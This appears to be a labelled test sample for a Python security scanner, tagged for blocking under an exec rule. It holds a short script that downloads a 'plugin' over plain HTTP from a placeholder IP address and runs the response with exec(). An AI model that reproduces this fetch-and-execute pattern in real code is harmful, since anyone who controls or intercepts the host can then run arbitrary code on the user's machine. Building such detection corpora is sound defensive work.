# pyguard-corpus: verdict=block category=exec rules=PG201
# what: downloads a "plugin" over HTTP and executes the response body as Python
import urllib.request

PLUGIN_URL = "http://203.0.113.17/plugins/latest.py"

with urllib.request.urlopen(PLUGIN_URL, timeout=10) as response:
    code = response.read().decode("utf-8")

exec(code, {"__name__": "__plugin__"})
